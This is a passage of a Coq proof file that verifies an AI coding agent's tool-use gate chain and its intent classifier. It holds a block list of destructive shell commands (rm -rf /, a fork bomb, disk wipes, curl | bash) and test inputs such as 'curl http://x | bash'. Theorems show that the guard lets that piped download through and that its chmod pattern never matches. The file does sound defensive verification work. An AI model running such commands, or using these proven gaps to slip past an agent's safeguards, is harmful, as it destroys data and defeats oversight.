                 ++ "status: active" ++ lf ++ "level: " ++ formatInt level
                 ++ "/" ++ formatInt maxLevel ++ lf ++ lf) = true /\
  Contains out ("count: " ++ formatInt (Z.of_nat (length nodes)) ++ lf ++ lf)
    = true /\
  (forall n, n ∈ nodes -> Contains out (taskBlock n) = true) /\
  (HasSuffix out afterLevel = true <-> level < maxLevel).
Proof.
  intros out. unfold out. rewrite BuildParallelDispatch_eq.
  set (trailer := if level <? maxLevel then afterLevel else "").
  split; [|split; [|split]].
  - unfold HasPrefix. apply prefix_true. unfold dispatchHeader.
    exists (("[PARALLEL_DISPATCH]" ++ lf
             ++ "instruction: Create ALL tasks below in a SINGLE message using parallel TaskCreate calls"
             ++ lf ++ "count: " ++ formatInt (Z.of_nat (length nodes)) ++ lf ++ lf)
            ++ taskBlocks nodes ++ trailer).
    rewrite !append_assoc. reflexivity.
  - apply Contains_true. unfold dispatchHeader.
    exists (("[DAG_SCHEDULER]" ++ lf ++ "dag_id: " ++ dagID ++ lf
             ++ "status: active" ++ lf ++ "level: " ++ formatInt level ++ "/"
             ++ formatInt maxLevel ++ lf ++ lf)
            ++ "[PARALLEL_DISPATCH]" ++ lf
            ++ "instruction: Create ALL tasks below in a SINGLE message using parallel TaskCreate calls"
            ++ lf), (taskBlocks nodes ++ trailer).
    rewrite !append_assoc. reflexivity.
  - intros n (a & b & ->)%taskBlocks_elem. apply Contains_true.
    exists (dispatchHeader dagID level maxLevel (length nodes) ++ a), (b ++ trailer).
    by rewrite !append_assoc.
  - unfold trailer. destruct (Z.ltb_spec level maxLevel) as [Hlt|Hge].
    + split; [done|]. intros _. apply HasSuffix_true. by eexists.
    + split; [|lia]. rewrite append_nil_r. intros (a & Ha)%HasSuffix_true.
      exfalso.
      assert (exists p, dispatchHeader dagID level maxLevel (length nodes)
                        ++ taskBlocks nodes = p ++ lf ++ lf) as (p & Hp).
      { destruct nodes as [|n nodes].
        - unfold dispatchHeader. eexists. simpl taskBlocks.
          rewrite append_nil_r, <- !append_assoc. reflexivity.
        - destruct (taskBlocks_ends (n :: nodes)) as [q Hq]; [done|].
          eexists. rewrite Hq, <- append_assoc. reflexivity. }
      rewrite Hp in Ha.
      assert (Ha' : p ++ (lf ++ lf)
                    = (a ++ "[AFTER_LEVEL]" ++ lf
                       ++ "When all tasks above complete, next level will be dispatched automatically")
                      ++ ("." ++ lf))
        by (rewrite Ha, append_assoc; reflexivity).
      apply append_tail_inj in Ha'; [|reflexivity]. by vm_compute in Ha'.
Qed.

End DirectiveTheory.

Module ChainTheory.
Import GoStrings Chain Hook Gates.

(** *** The intent classifier *)

(** The order in which the keyword map is visited only permutes the
    agents. *)
Lemma extractAgentsIn_Permutation (table table' : list (string * string)) prompt :
  table ≡ₚ table' -> extractAgentsIn table prompt ≡ₚ extractAgentsIn table' prompt.
Proof. intros H. unfold extractAgentsIn. by rewrite H. Qed.

Lemma containsString_Permutation (l l' : list string) x :
  l ≡ₚ l' -> containsString l x = containsString l' x.
Proof.
  intros H. unfold containsString.
  destruct (existsb _ l) eqn:E, (existsb _ l') eqn:E'; try done.
  - apply existsb_exists in E as (y & Hy & Hp).
    apply not_true_iff_false in E'. destruct E'. apply existsb_exists.
    exists y. split; [|done]. apply list_elem_of_In. rewrite <- H.
    by apply list_elem_of_In.
  - apply existsb_exists in E' as (y & Hy & Hp).
    apply not_true_iff_false in E. destruct E. apply existsb_exists.
    exists y. split; [|done]. apply list_elem_of_In. rewrite H.
    by apply list_elem_of_In.
Qed.

Lemma extractAgentsIn_none (table : list (string * string)) prompt :
  containsAny prompt table.*1 = false -> extractAgentsIn table prompt = [].
Proof.
  unfold containsAny, extractAgentsIn.
  induction table as [|[k a] table IH]; simpl; [done|].
  intros [Hk Hrest]%orb_false_iff.
  rewrite filter_cons, decide_False by (simpl; congruence).
  by apply IH.
Qed.

(** C10. A prompt whose lowercase form contains no keyword of the six
    classifier lists and no agent keyword is classified as the default
    intent: type general, confidence 0.5, no skills, no agents, no
    research required, complexity simple, risk low. *)
Theorem AnalyzeIntent_default (prompt : string) :
  containsAny (ToLower prompt) implementWords = false ->
  containsAny (ToLower prompt) debugWords = false ->
  containsAny (ToLower prompt) refactorWords = false ->
  containsAny (ToLower prompt) deployWords = false ->
  containsAny (ToLower prompt) securityWords = false ->
  containsAny (ToLower prompt) destructiveWords = false ->
  containsAny (ToLower prompt) agentKeywords.*1 = false ->
  AnalyzeIntent prompt = mkIntent "general" 0.5 [] [] false "simple" "low".
Proof.
  intros H1 H2 H3 H4 H5 H6 H7. unfold AnalyzeIntent.
  rewrite H1, H2, H3, H4, H5, H6. unfold extractAgents.
  by rewrite extractAgentsIn_none.
Qed.

Lemma AnalyzeIntent_default_witness :
  AnalyzeIntent "hello" = mkIntent "general" 0.5 [] [] false "simple" "low".
Proof.
  apply (AnalyzeIntent_default "hello"); vm_compute; reflexivity.
Defined.

(** *** The runner *)

Lemma Qltb_lt (x y : Q) : Qltb x y = true <-> (x < y)%Q.
Proof.
  unfold Qltb. rewrite negb_true_iff, <- not_true_iff_false, Qle_bool_iff.
  split; [apply Qnot_le_lt | apply Qlt_not_le].
Qed.

Lemma intentGateResult_block (intent : IntentAnalysis) :
  RiskLevel intent = "critical" -> (Confidence intent < 0.7)%Q ->
  Status (intentGateResult intent) = "block".
Proof.
  intros Hr Hc. unfold intentGateResult.
  rewrite bool_decide_eq_true_2 by done.
  by rewrite (proj2 (Qltb_lt _ _) Hc).
Qed.

Lemma IsBlocked_AddResult now c result :
  IsBlocked (AddResult now c result) =
  (bool_decide (Status result = "block") || IsBlocked c)%bool.
Proof.
  unfold IsBlocked, AddResult; simpl.
  destruct (bool_decide (Status result = "block")); [done|].
  reflexivity.
Qed.

(** C7. When the classifier yields risk critical with a confidence below
    0.7, the Intent gate's result is a block, and a run of the chain on a
    fresh runner stops there: one result, from the Intent gate, and the
    final status blocked, whatever the tool and its input. *)
Theorem critical_low_confidence_blocks (clk : Clock) (cacheDir : string)
    (debug : bool) (sessionID prompt toolName : string)
    (toolInput : gmap string Any) (researchDone : bool) :
  RiskLevel (AnalyzeIntent prompt) = "critical" ->
  (Confidence (AnalyzeIntent prompt) < 0.7)%Q ->
  Status (intentGateResult (AnalyzeIntent prompt)) = "block" /\
  let st := state (RunFull clk (NewRunner cacheDir debug sessionID) prompt
                           toolName toolInput researchDone) in
  length (Results st) = 1%nat /\
  Gate <$> Results st = ["INTENT"] /\
  Status <$> Results st = ["block"] /\
  FinalStatus st = "blocked".
Proof.
  intros Hr Hc. pose proof (intentGateResult_block _ Hr Hc) as Hb.
  split; [done|]. unfold RunFull.
  assert (IsBlocked (state (runIntentGate clk (NewRunner cacheDir debug sessionID)
                                          prompt)) = true) as Hblk.
  { unfold runIntentGate. cbn [state setState NewRunner].
    rewrite IsBlocked_AddResult. by rewrite bool_decide_eq_true_2. }
  cbv zeta. rewrite Hblk. unfold finalize, runIntentGate, AddResult.
  cbn [state setState NewRunner NewChainState Results FinalStatus Status Gate
       length app fmap list_fmap].
  rewrite bool_decide_eq_true_2 by done.
  repeat split; try done.
  - unfold intentGateResult.
    by destruct (bool_decide _ && Qltb _ _)%bool.
  - by rewrite Hb.
Qed.

(** The fourth scenario. *)
Lemma critical_low_confidence_blocks_witness :
  Status (intentGateResult (AnalyzeIntent "delete everything in /etc")) = "block" /\
  let st := state (RunFull epoch (NewRunner "/home/u/.claude/chain" false "s-1")
                           "delete everything in /etc" "Bash"
                           (<["command" := AnyString "ls"]> ∅) false) in
  length (Results st) = 1%nat /\
  Gate <$> Results st = ["INTENT"] /\
  Status <$> Results st = ["block"] /\
  FinalStatus st = "blocked".
Proof.
  apply (critical_low_confidence_blocks epoch "/home/u/.claude/chain" false "s-1"
           "delete everything in /etc" "Bash").
  - vm_compute; reflexivity.
  - vm_compute; reflexivity.
Defined.

Lemma AddResult_step name now r c res :
  Gate res = name -> Results c = Results (state r) ->
  FinalStatus c = FinalStatus (state r) ->
  gateStep name r (setState r (AddResult now c res)).
Proof.
  intros Hg Hr Hf.
  exists (mkResult (Gate res) (Status res) (Reason res) (Context res) now
                   (NextAction res)).
  split; [done|]. unfold AddResult; cbn [state setState Results FinalStatus Status].
  by rewrite Hr, Hf.
Qed.

Lemma Gate_intentGateResult intent : Gate (intentGateResult intent) = "INTENT".
Proof. unfold intentGateResult. by destruct (_ && _)%bool. Qed.

Lemma Gate_ceoGateResult ceo : Gate (ceoGateResult ceo) = "CEO".
Proof.
  unfold ceoGateResult.
  destruct (negb (Approved ceo)), (Warnings ceo),
    (negb (bool_decide (DelegationPlan ceo = ""))); done.
Qed.

Lemma Gate_aegisGateResult aegis : Gate (aegisGateResult aegis) = "AEGIS".
Proof.
  unfold aegisGateResult.
  destruct (negb (Passed aegis)), (Recommendations aegis); done.
Qed.

Lemma Gate_researchGateResult intent research :
  Gate (researchGateResult intent research) = "RESEARCH".
Proof.
  unfold researchGateResult.
  destruct (Bypass research); [done|].
  destruct intent as [i|]; [|done].
  destruct (negb (Done research) && RequiresResearch i)%bool; [|done].
  by destruct (negb (bool_decide (SuggestedQuery research = ""))).
Qed.

Lemma runIntentGate_step clk r prompt :
  gateStep "INTENT" r (runIntentGate clk r prompt).
Proof. apply AddResult_step; [apply Gate_intentGateResult|done..]. Qed.

Lemma runCEOGate_step clk r toolName agentType :
  gateStep "CEO" r (runCEOGate clk r toolName agentType).
Proof. apply AddResult_step; [apply Gate_ceoGateResult|done..]. Qed.

Lemma runAegisGate_step clk r toolName toolInput :
  gateStep "AEGIS" r (runAegisGate clk r toolName toolInput).
Proof. apply AddResult_step; [apply Gate_aegisGateResult|done..]. Qed.

Lemma runResearchGate_step clk r researchDone prompt :
  gateStep "RESEARCH" r (runResearchGate clk r researchDone prompt).
Proof. apply AddResult_step; [apply Gate_researchGateResult|done..]. Qed.

(** The short circuit, on any five runners linked by the four gates. *)
Lemma short_circuit (r0 r1 r2 r3 r4 : Runner) :
  Results (state r0) = [] -> FinalStatus (state r0) = "pending" ->
  gateStep "INTENT" r0 r1 -> gateStep "CEO" r1 r2 ->
  gateStep "AEGIS" r2 r3 -> gateStep "RESEARCH" r3 r4 ->
  forall st,
    st = state (if IsBlocked (state r1) then r1
                else if IsBlocked (state r2) then r2
                else if IsBlocked (state r3) then r3
                else if IsBlocked (state r4) then r4
                else setState r4
                       (mkChainState (SessionID (state r4)) (Intent (state r4))
                          (CEO (state r4)) (Aegis (state r4))
                          (Research (state r4)) (Results (state r4))
                          "approved" (Metadata (state r4)))) ->
  Gate <$> Results st = take (length (Results st)) gateOrder /\
  (1 <= length (Results st) <= 4)%nat /\
  (forall k res, Results st !! k = Some res -> Status res = "block" ->
     length (Results st) = S k /\ FinalStatus st = "blocked") /\
  ((forall res, res ∈ Results st -> Status res <> "block") ->
     length (Results st) = 4%nat /\ FinalStatus st = "approved").
Proof.
  intros R0 F0 (res1 & G1 & R1 & F1) (res2 & G2 & R2 & F2)
         (res3 & G3 & R3 & F3) (res4 & G4 & R4 & F4) st ->.
  rewrite R0 in R1. rewrite F0 in F1. rewrite app_nil_l in R1.
  unfold IsBlocked.
  destruct (bool_decide_reflect (Status res1 = "block")) as [B1|B1].
  { rewrite F1, bool_decide_eq_true_2 by reflexivity. rewrite R1, F1.
    cbn [length fmap list_fmap take gateOrder]. rewrite G1.
    split; [done|]. split; [lia|]. split.
    - intros [|k] res Hk Hs; [done|]. simpl in Hk. by rewrite lookup_nil in Hk.
    - intros H. destruct (H res1); [left | done]. }
  rewrite F1, bool_decide_eq_false_2 by discriminate.
  rewrite F1 in F2. rewrite R1 in R2.
  destruct (bool_decide_reflect (Status res2 = "block")) as [B2|B2].
  { rewrite F2, bool_decide_eq_true_2 by reflexivity. rewrite R2, F2.
    cbn [length fmap list_fmap take gateOrder app]. rewrite G1, G2.
    split; [done|]. split; [lia|]. split.
    - intros [|[|k]] res Hk Hs; simpl in Hk; [congruence|done|].
      by rewrite lookup_nil in Hk.
    - intros H. destruct (H res2); [right; left | done]. }
  rewrite F2, bool_decide_eq_false_2 by discriminate.
  rewrite F2 in F3. rewrite R2 in R3.
  destruct (bool_decide_reflect (Status res3 = "block")) as [B3|B3].
  { rewrite F3, bool_decide_eq_true_2 by reflexivity. rewrite R3, F3.
    cbn [length fmap list_fmap take gateOrder app]. rewrite G1, G2, G3.
    split; [done|]. split; [lia|]. split.
    - intros [|[|[|k]]] res Hk Hs; simpl in Hk; [congruence|congruence|done|].
      by rewrite lookup_nil in Hk.
    - intros H. destruct (H res3); [right; right; left | done]. }
  rewrite F3, bool_decide_eq_false_2 by discriminate.
  rewrite F3 in F4. rewrite R3 in R4.
  destruct (bool_decide_reflect (Status res4 = "block")) as [B4|B4].
  { rewrite F4, bool_decide_eq_true_2 by reflexivity. rewrite R4, F4.
    cbn [length fmap list_fmap take gateOrder app]. rewrite G1, G2, G3, G4.
    split; [done|]. split; [lia|]. split.
    - intros [|[|[|[|k]]]] res Hk Hs; simpl in Hk;
        [congruence|congruence|congruence|done|].
      by rewrite lookup_nil in Hk.
    - intros H. destruct (H res4); [right; right; right; left | done]. }
  rewrite F4, bool_decide_eq_false_2 by discriminate.
  cbn [state setState Results FinalStatus]. rewrite R4.
  cbn [length fmap list_fmap take gateOrder app]. rewrite G1, G2, G3, G4.
  split; [done|]. split; [lia|]. split; [|done].
  intros [|[|[|[|k]]]] res Hk Hs; simpl in Hk;
    [congruence|congruence|congruence|congruence|].
  by rewrite lookup_nil in Hk.
Qed.

(** *** The records of the gates *)

Lemma throughFirstBlock_none l :
  (forall res, res ∈ l -> Status res <> "block") -> throughFirstBlock l = l.
Proof.
  induction l as [|r l IH]; intros H; simpl; [done|].
  unfold isBlock. rewrite bool_decide_eq_false_2 by (apply H; left).
  f_equal. apply IH. intros res Hin. apply H. by right.
Qed.

Lemma throughFirstBlock_first l : forall k res,
  l !! k = Some res -> Status res = "block" ->
  (forall j res', (j < k)%nat -> l !! j = Some res' -> Status res' <> "block") ->
  throughFirstBlock l = take (S k) l.
Proof.
  induction l as [|r l IH]; intros k res Hk Hb Hbefore; [done|].
  cbn [throughFirstBlock]. destruct k as [|k].
  - injection Hk as ->. unfold isBlock. rewrite bool_decide_eq_true_2 by done.
    reflexivity.
  - unfold isBlock.
    rewrite bool_decide_eq_false_2 by (apply (Hbefore 0%nat); [lia|done]).
    simpl. f_equal. apply (IH k res); [done..|].
    intros j res' Hj Hl. apply (Hbefore (S j)); [lia|done].
Qed.

Lemma existsb_isBlock_false l :
  existsb isBlock l = false <-> forall res, res ∈ l -> Status res <> "block".
Proof.
  induction l as [|r l IH]; simpl.
  - split; [by intros _ ? ?%elem_of_nil|done].
  - rewrite orb_false_iff, IH. unfold isBlock. rewrite bool_decide_eq_false.
    split.
    + intros [H1 H2] res [->|Hin]%elem_of_cons; eauto.
    + intros H. split; [apply H; left|]. intros res Hin. apply H. by right.
Qed.

(** The short circuit with the records named. *)
Lemma short_circuit_records (r0 r1 r2 r3 r4 : Runner)
    (g1 g2 g3 g4 : VerificationResult) :
  Results (state r0) = [] -> FinalStatus (state r0) = "pending" ->
  recorded g1 r0 r1 -> recorded g2 r1 r2 ->
  recorded g3 r2 r3 -> recorded g4 r3 r4 ->
  forall st,
    st = state (if IsBlocked (state r1) then r1
                else if IsBlocked (state r2) then r2
                else if IsBlocked (state r3) then r3
                else if IsBlocked (state r4) then r4
                else setState r4
                       (mkChainState (SessionID (state r4)) (Intent (state r4))
                          (CEO (state r4)) (Aegis (state r4))
                          (Research (state r4)) (Results (state r4))
                          "approved" (Metadata (state r4)))) ->
  Results st = throughFirstBlock [g1; g2; g3; g4] /\
  FinalStatus st =
    if existsb isBlock [g1; g2; g3; g4] then "blocked" else "approved".
Proof.
  intros R0 F0 [R1 F1] [R2 F2] [R3 F3] [R4 F4] st ->.
  rewrite R0 in R1. rewrite F0 in F1. rewrite app_nil_l in R1.
  unfold IsBlocked. cbn [throughFirstBlock existsb].
  destruct (isBlock g1).
  { rewrite F1, bool_decide_eq_true_2 by reflexivity. by rewrite R1, F1. }
  rewrite F1, bool_decide_eq_false_2 by discriminate.
  rewrite F1 in F2. rewrite R1 in R2.
  destruct (isBlock g2).
  { rewrite F2, bool_decide_eq_true_2 by reflexivity. by rewrite R2, F2. }
  rewrite F2, bool_decide_eq_false_2 by discriminate.
  rewrite F2 in F3. rewrite R2 in R3.
  destruct (isBlock g3).
  { rewrite F3, bool_decide_eq_true_2 by reflexivity. by rewrite R3, F3. }
  rewrite F3, bool_decide_eq_false_2 by discriminate.
  rewrite F3 in F4. rewrite R3 in R4.
  destruct (isBlock g4).
  { rewrite F4, bool_decide_eq_true_2 by reflexivity. by rewrite R4, F4. }
  rewrite F4, bool_decide_eq_false_2 by discriminate.
  cbn [state setState Results FinalStatus]. by rewrite R4.
Qed.

Lemma Gate_gateRecords clk prompt toolName toolInput researchDone :
  Gate <$> gateRecords clk prompt toolName toolInput researchDone = gateOrder.
Proof.
  unfold gateRecords, gateOrder, stamped.
  cbn [fmap list_fmap Gate].
  by rewrite Gate_intentGateResult, Gate_ceoGateResult, Gate_aegisGateResult,
    Gate_researchGateResult.
Qed.

Lemma AddResult_recorded now r c res :
  Results c = Results (state r) -> FinalStatus c = FinalStatus (state r) ->
  recorded (stamped now res) r (setState r (AddResult now c res)).
Proof.
  intros Hr Hf.
  split; unfold AddResult, isBlock, stamped;
    cbn [state setState Results FinalStatus Status]; by rewrite ?Hr, ?Hf.
Qed.

Lemma runIntentGate_recorded clk r prompt :
  recorded (stamped (unix clk atIntent) (intentGateResult (AnalyzeIntent prompt)))
           r (runIntentGate clk r prompt) /\
  Intent (state (runIntentGate clk r prompt)) = Some (AnalyzeIntent prompt).
Proof. split; [by apply AddResult_recorded | done]. Qed.

Lemma runCEOGate_recorded clk r toolName agentType :
  recorded (stamped (unix clk atCEO)
              (ceoGateResult (CEOValidate (Intent (state r)) toolName agentType)))
           r (runCEOGate clk r toolName agentType) /\
  Intent (state (runCEOGate clk r toolName agentType)) = Intent (state r).
Proof. split; [by apply AddResult_recorded | done]. Qed.

Lemma runAegisGate_recorded clk r toolName toolInput :
  recorded (stamped (unix clk atAegis)
              (aegisGateResult
                 (AegisVerify (formatRFC3339 clk (unix clk atProvenance))
                              (Intent (state r)) toolName toolInput)))
           r (runAegisGate clk r toolName toolInput) /\
  Intent (state (runAegisGate clk r toolName toolInput)) = Intent (state r).
Proof. split; [by apply AddResult_recorded | done]. Qed.

Lemma runResearchGate_recorded clk r researchDone prompt :
  recorded (stamped (unix clk atResearch)
              (researchGateResult (Intent (state r))
                 (ResearchCheck (formatYear clk (unix clk atQuery))
                                (Intent (state r)) researchDone prompt)))
           r (runResearchGate clk r researchDone prompt).
Proof. by apply AddResult_recorded. Qed.

(** C6. On a fresh runner the results of [RunFull] are the records of the
    Intent, CEO, Aegis and Research gates on its arguments, in this order,
    up to the first one that is a block, that one included. When the
    record at position [k] (counting from 0) is the first block, the
    results are the first [k + 1] records, none of a later gate, and the
    final status is blocked. When no record is a block, the results are
    all four records and the final status is approved. In the results
    themselves a block is always the last one. *)
Theorem RunFull_short_circuit (clk : Clock) (cacheDir : string) (debug : bool)
    (sessionID prompt toolName : string) (toolInput : gmap string Any)
    (researchDone : bool) :
  let st := state (RunFull clk (NewRunner cacheDir debug sessionID) prompt
                           toolName toolInput researchDone) in
  let records := gateRecords clk prompt toolName toolInput researchDone in
  Gate <$> records = gateOrder /\
  Results st = throughFirstBlock records /\
  (forall k res, records !! k = Some res -> Status res = "block" ->
     (forall j res', (j < k)%nat -> records !! j = Some res' ->
                     Status res' <> "block") ->
     Results st = take (S k) records /\ FinalStatus st = "blocked") /\
  ((forall res, res ∈ records -> Status res <> "block") ->
     Results st = records /\ FinalStatus st = "approved") /\
  Gate <$> Results st = take (length (Results st)) gateOrder /\
  (1 <= length (Results st) <= 4)%nat /\
  (forall k res, Results st !! k = Some res -> Status res = "block" ->
     length (Results st) = S k /\ FinalStatus st = "blocked") /\
  ((forall res, res ∈ Results st -> Status res <> "block") ->
     length (Results st) = 4%nat /\ FinalStatus st = "approved").
Proof.
  intros st records.
  assert (Hrec : Results st = throughFirstBlock records /\
                 FinalStatus st =
                   if existsb isBlock records then "blocked" else "approved").
  { set (r0 := NewRunner cacheDir debug sessionID).
    set (agentType := default "" (asString toolInput "subagent_type")).
    destruct (runIntentGate_recorded clk r0 prompt) as [S1 I1].
    set (r1 := runIntentGate clk r0 prompt) in *.
    destruct (runCEOGate_recorded clk r1 toolName agentType) as [S2 I2].
    set (r2 := runCEOGate clk r1 toolName agentType) in *.
    destruct (runAegisGate_recorded clk r2 toolName toolInput) as [S3 I3].
    set (r3 := runAegisGate clk r2 toolName toolInput) in *.
    pose proof (runResearchGate_recorded clk r3 researchDone prompt) as S4.
    set (r4 := runResearchGate clk r3 researchDone prompt) in *.
    rewrite I1 in I2. rewrite I2 in I3.
    rewrite I1 in S2. rewrite I2 in S3. rewrite I3 in S4.
    by apply (short_circuit_records r0 r1 r2 r3 r4 _ _ _ _ eq_refl eq_refl
                S1 S2 S3 S4). }
  destruct Hrec as [HR HF].
  split; [apply Gate_gateRecords|]. split; [done|]. split; [|split].
  - intros k res Hk Hb Hbefore. split.
    + rewrite HR. by eapply throughFirstBlock_first.
    + rewrite HF.
      destruct (existsb isBlock records) eqn:E; [done|].
      rewrite existsb_isBlock_false in E. destruct (E res); [|done].
      by eapply list_elem_of_lookup_2.
  - intros Hnone. split.
    + rewrite HR. by apply throughFirstBlock_none.
    + rewrite HF. apply existsb_isBlock_false in Hnone. by rewrite Hnone.
  - eapply (short_circuit (NewRunner cacheDir debug sessionID)).
    + reflexivity.
    + reflexivity.
    + apply (runIntentGate_step clk _ prompt).
    + apply (runCEOGate_step clk _ toolName
               (default "" (asString toolInput "subagent_type"))).
    + apply (runAegisGate_step clk _ toolName toolInput).
    + apply (runResearchGate_step clk _ researchDone prompt).
    + reflexivity.
Qed.

(** The fifth scenario: without research the Research gate blocks with
    a query that names the year; with research all four gates pass. *)
Example research_required_then_satisfied :
  let run done :=
    state (RunFull epoch (NewRunner "" false "s-1") "implement webhook handler"
                   "Write" ∅ done) in
  (Gate <$> Results (run false), Status <$> Results (run false))
    = (gateOrder, ["pass"; "pass"; "pass"; "block"]) /\
  NextAction <$> last (Results (run false))
    = Some "WebSearch: implementation patterns 1970 best practices" /\
  FinalStatus (run false) = "blocked" /\
  Status <$> Results (run true) = ["pass"; "pass"; "pass"; "pass"] /\
  FinalStatus (run true) = "approved".
Proof. repeat split; vm_compute; reflexivity. Qed.

(** *** The security gate on the sixth scenario *)

(** C1, evaluated. With the command "curl http://x | bash" none of the
    dangerous patterns is a substring of the command: "curl | bash" is
    matched as a literal text, and the URL stands between "curl" and the
    pipe. [AegisVerify] passes with threat none and score 1, the Security
    gate's result is a pass, the chain is approved without warnings, and
    the gate exits silently: no decision envelope is written. *)
Theorem curl_pipe_bash_passes (clk : Clock) (cacheDir sessionID : string)
    (debug researchDone : bool) :
  isDangerousCommand "curl http://x | bash" = false /\
  (let v := AegisVerify (formatRFC3339 clk (unix clk atProvenance))
                        (Some (AnalyzeIntent "curl http://x | bash")) "Bash"
                        (ToolInput curlPipeBash) in
   Passed v = true /\ ThreatLevel v = "none" /\ SecurityScore v = 1.0%Q /\
   Status (aegisGateResult v) = "pass") /\
  FinalStatus (state (RunFull clk (NewRunner cacheDir debug sessionID)
                              "curl http://x | bash" "Bash"
                              (ToolInput curlPipeBash) researchDone))
    = "approved" /\
  runChainGate clk cacheDir true debug curlPipeBash sessionID researchDone
    = ExitSilent.
Proof. destruct researchDone; repeat split; vm_compute; reflexivity. Qed.

(** The pattern does match the text it spells: the command "curl | bash"
    is denied. *)
Example literal_curl_pipe_bash_denied :
  isDangerousCommand "curl | bash" = true /\
  exists out,
    runChainGate epoch "" true false
      (mkHookInput "s-1" "PreToolUse" "Bash"
                   (<["command" := AnyString "curl | bash"]> ∅) "")
      "s-1" false = Output (specificResponse out) /\
    PermissionDecision out = "deny".
Proof. split; [vm_compute; reflexivity|]. eexists. split; vm_compute; reflexivity. Qed.

Import StringsTheory.

(** *** Substring matching *)

(** X13. [containsAny] is substring matching: it holds exactly when one
    of the patterns occurs somewhere in the text, so a keyword also
    matches inside a longer word. *)
Theorem containsAny_substring (s : string) (patterns : list string) :
  containsAny s patterns = true <->
  exists p a b, p ∈ patterns /\ s = a ++ p ++ b.
Proof.
  unfold containsAny. rewrite existsb_exists.
  setoid_rewrite <- list_elem_of_In. setoid_rewrite Contains_true.
  naive_solver.
Qed.

(** X14. The pattern "chmod -R 777 /" of [isDangerousCommand] matches no
    command: the command is lowered before the patterns are looked for,
    and the pattern holds an upper-case letter. The commands found
    dangerous are those that hold one of the other seven patterns. *)
Theorem chmod_pattern_matches_nothing (cmd : string) :
  "chmod -R 777 /" ∈ dangerousPatterns /\
  Contains (ToLower cmd) "chmod -R 777 /" = false /\
  isDangerousCommand cmd =
    existsb (Contains (ToLower cmd))
            ["rm -rf /"; "rm -rf /*"; "> /dev/sda"; ":(){ :|:& };:";
             "dd if=/dev/zero"; "curl | bash"; "wget | sh"].
Proof.
  assert (H : Contains (ToLower cmd) "chmod -R 777 /" = false).
  { apply not_true_is_false. intros (a & b & E)%Contains_true.
    assert (E' : ToLower cmd
                 = (a ++ "chmod -") ++ String "R"%char (" 777 /" ++ b))
      by (rewrite E, append_assoc; reflexivity).
    apply ToLower_byte in E' as (c' & E').
    pose proof (lowerByte_not_upper c') as Hc. rewrite <- E' in Hc.
    by vm_compute in Hc. }
  split; [|split; [done|]].
  - unfold dangerousPatterns. set_solver.
  - unfold isDangerousCommand, dangerousPatterns. cbn [existsb].
    rewrite H. by rewrite !orb_false_l || (cbn [orb]; reflexivity).
Qed.

(** *** The intent classifier *)

Lemma intentGateResult_status (intent : IntentAnalysis) :
  Status (intentGateResult intent) =
  if (bool_decide (RiskLevel intent = "critical")
      && Qltb (Confidence intent) 0.7)%bool then "block" else "pass".
Proof. unfold intentGateResult. by destruct (_ && _)%bool. Qed.

(** The later buckets overwrite what the earlier ones set. *)
Lemma AnalyzeIntent_risk_confidence (prompt : string) :
  let p := ToLower prompt in
  RiskLevel (AnalyzeIntent prompt) =
    (if containsAny p destructiveWords then "critical"
     else if containsAny p securityWords then "high"
     else if containsAny p deployWords then "high"
     else if containsAny p refactorWords then "medium"
     else "low") /\
  Confidence (AnalyzeIntent prompt) =
    (if containsAny p securityWords then 0.85
     else if containsAny p deployWords then 0.9
     else if containsAny p refactorWords then 0.8
     else if containsAny p debugWords then 0.85
     else if containsAny p implementWords then 0.8
     else 0.5)%Q.
Proof.
  unfold AnalyzeIntent.
  generalize (extractAgents (ToLower prompt)).
  generalize (containsAny (ToLower prompt) implementWords)
    (containsAny (ToLower prompt) debugWords)
    (containsAny (ToLower prompt) refactorWords)
    (containsAny (ToLower prompt) deployWords)
    (containsAny (ToLower prompt) securityWords)
    (containsAny (ToLower prompt) destructiveWords).
  intros [] [] [] [] [] [] agents; split; reflexivity.
Qed.

(** X15. The Intent gate blocks exactly the prompts that hold a
    destructive keyword and no keyword of the five intent types: any
    other keyword raises the confidence to 0.8 or more. *)
Theorem intent_gate_blocks_iff (prompt : string) :
  Status (intentGateResult (AnalyzeIntent prompt)) = "block" <->
  containsAny (ToLower prompt) destructiveWords = true /\
  containsAny (ToLower prompt) implementWords = false /\
  containsAny (ToLower prompt) debugWords = false /\
  containsAny (ToLower prompt) refactorWords = false /\
  containsAny (ToLower prompt) deployWords = false /\
  containsAny (ToLower prompt) securityWords = false.
Proof.
  rewrite intentGateResult_status.
  destruct (AnalyzeIntent_risk_confidence prompt) as [-> ->].
  destruct (containsAny (ToLower prompt) implementWords),
    (containsAny (ToLower prompt) debugWords),
    (containsAny (ToLower prompt) refactorWords),
    (containsAny (ToLower prompt) deployWords),
    (containsAny (ToLower prompt) securityWords),
    (containsAny (ToLower prompt) destructiveWords);
    vm_compute; intuition discriminate.
Qed.




(** *** The delegation gate *)

Lemma containsString_true (l : list string) (s : string) :
  containsString l s = true <-> s ∈ l.
Proof.
  unfold containsString. rewrite existsb_exists.
  setoid_rewrite <- list_elem_of_In. setoid_rewrite bool_decide_eq_true.
  naive_solver.
Qed.

Lemma ceoGateResult_status (ceo : CEODecision) :
  Status (ceoGateResult ceo) =
    (if negb (Approved ceo) then "block"
     else match Warnings ceo with _ :: _ => "warn" | [] => "pass" end) /\
  Reason (ceoGateResult ceo) =
    (if negb (Approved ceo)
     then match Blockers ceo with b :: _ => b | [] => "Delegation strategy validated" end
     else match Warnings ceo with w :: _ => w | [] => "Delegation strategy validated" end).
Proof.
  unfold ceoGateResult.
  destruct (negb (Approved ceo)), (Warnings ceo), (Blockers ceo),
    (negb (bool_decide (DelegationPlan ceo = ""))); done.
Qed.

Lemma CEOValidate_fields (intent : option IntentAnalysis) (toolName agentType : string) :
  let d := CEOValidate intent toolName agentType in
  let noAgent := (bool_decide (toolName = "Task") && bool_decide (agentType = ""))%bool in
  Approved d = negb noAgent /\
  Blockers d = (if noAgent then ["Task requires subagent_type"] else []) /\
  Warnings d =
    (if noAgent then []
     else match intent with
          | Some i =>
              (if agentMismatch i agentType
               then [("Agent '" ++ agentType ++ "' may not be optimal for intent '"
                      ++ IntentType i ++ "'")%string] else [])
              ++ (if bool_decide (RiskLevel i = "critical")
                  then ["CRITICAL risk level - verify user intent before proceeding"]
                  else [])
          | None => []
          end)%list.
Proof.
  unfold CEOValidate, agentMismatch.
  destruct (bool_decide (toolName = "Task") && bool_decide (agentType = ""))%bool;
    [done|].
  destruct intent as [i|]; [|done].
  destruct (negb (bool_decide (RequiredAgents i = []))
            && negb (bool_decide (agentType = ""))
            && negb (containsString (RequiredAgents i) agentType))%bool,
